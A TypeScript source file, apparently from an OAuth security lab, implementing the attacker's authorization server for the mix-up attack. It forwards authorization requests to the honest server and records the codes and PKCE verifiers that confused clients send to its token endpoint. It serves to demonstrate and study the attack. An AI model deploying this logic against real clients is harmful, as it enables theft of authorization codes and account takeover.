/**
 * The malicious authorization server of the mix-up attack (RFC 9700 §4.4, docs/decisions/127), at
 * the issuer `<origin>/evil-as`. Its metadata, keys and every endpoint it does not take over come
 * from a second instance of the core with its own store, so a client discovers it like any server.
 * Two endpoints are the attacker's own:
 * - the authorization endpoint sends the browser on to the honest server's, with the same
 *   parameters: the user signs in there, and the honest server sends its code to the client;
 * - the token endpoint records the code and the PKCE verifier a confused client sends it, then
 *   lets the second core answer (it has never heard of that code).
 */

import type { AuthorizationServer } from '../core/authorization-server'
import { OAuthError } from '../core/errors'
import { readBodyText, redirectResponse } from '../core/http'
import type { CoreRequest, CoreResponse } from '../core/request-response'
import type { AttackerLog } from './attacker-server'

export const evilIssuerPath = '/evil-as'

export function isEvilAsPath(pathname: string): boolean {
  return (
    pathname === evilIssuerPath ||
    pathname.startsWith(`${evilIssuerPath}/`) ||
    pathname === `/.well-known/oauth-authorization-server${evilIssuerPath}`
  )
}

export interface EvilAuthorizationServerInit {
  /** The second core instance, issuer `<origin>/evil-as`. */
  core: AuthorizationServer
  /** The honest server's issuer, whose authorization endpoint the browser is sent on to. */
  honestIssuer: string
  log: AttackerLog
}

export function createEvilAuthorizationServer(init: EvilAuthorizationServerInit) {
  async function handle(request: CoreRequest): Promise<CoreResponse> {
    const url = new URL(request.url)
    const method = request.method.toUpperCase()
    if (url.pathname === `${evilIssuerPath}/authorize` && method === 'GET') {
      await init.log.record({ channel: 'authorize', method, url: url.href })
      // The attacker swaps in the client's client_id at the honest server (here the lab client has
      // the same id at both) and keeps everything else: redirect_uri, state, code_challenge.
      const onward = new URL(`${init.honestIssuer}/authorize`)
      onward.search = url.search
      return redirectResponse(onward.href)
    }
    if (url.pathname === `${evilIssuerPath}/token` && method === 'POST') {
      try {
        const text = await readBodyText(request.clone(), 'invalid_request')
        const form = Object.fromEntries(new URLSearchParams(text))
        await init.log.record({ channel: 'token', method, url: url.href, form })
      } catch (error) {
        if (error instanceof OAuthError) return error.toPlainResponse()
        throw error
      }
    }
    return init.core.respond(request)
  }
  return { handle }
}
